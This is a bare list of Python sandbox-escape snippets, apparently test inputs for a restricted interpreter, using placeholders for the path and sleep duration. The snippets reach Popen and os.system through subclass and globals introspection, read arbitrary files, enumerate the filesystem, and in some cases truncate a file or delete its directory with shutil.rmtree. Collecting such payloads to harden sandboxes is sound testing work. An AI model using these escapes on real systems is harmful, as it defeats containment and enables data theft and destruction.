[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0](["sleep", SECONDS])
# ---
import subprocess
for c in object.__subclasses__():
    g = getattr(getattr(c, "__init__", None), "__globals__", None) or {}
    for name in ("os", "posix", "subprocess", "sys"):
        if name in g:
            try:
                g[name].system("sleep " + SECONDS)
            except BaseException as e:
                print(name, type(e), e)
# ---
for c in ().__class__.__mro__[-1].__subclasses__():
    try:
        print(c.get_data(c, PATH))
    except BaseException:
        pass
# ---
import warnings
warnings.catch_warnings()._module.__builtins__["open"](PATH).read()
# ---
print(print.__self__.open(PATH).read())
# ---
(lambda: 0).__globals__["__builtins__"].__import__("os").system("sleep " + SECONDS)
# ---
import os
os.popen("cat " + PATH).read()
# ---
import posix
posix.posix_spawn("/bin/sleep", ["sleep", SECONDS], {})
# ---
import _io
_io.FileIO(PATH).readall()
# ---
import io
io.open_code(PATH).read()
# ---
import gc
[o for o in gc.get_objects() if "Popen" in repr(o)]
# ---
import os
out = []
for f in dir(os):
    try:
        out.append((f, getattr(os, f)(PATH)))
    except BaseException as e:
        out.append((f, type(e).__name__))
out
# ---
import os
for f in dir(os):
    if f not in ("_exit", "abort"):
        try:
            getattr(os, f)()
        except BaseException:
            pass
# ---
import os
os.write(os.open(PATH, os.O_WRONLY | os.O_TRUNC), b"gone")
# ---
import shutil, os
shutil.rmtree(os.path.dirname(PATH))
# ---
import glob, os
glob.glob("/**", recursive=True), os.listdir("/"), list(os.scandir("/")), os.listdir(os.path.dirname(PATH))
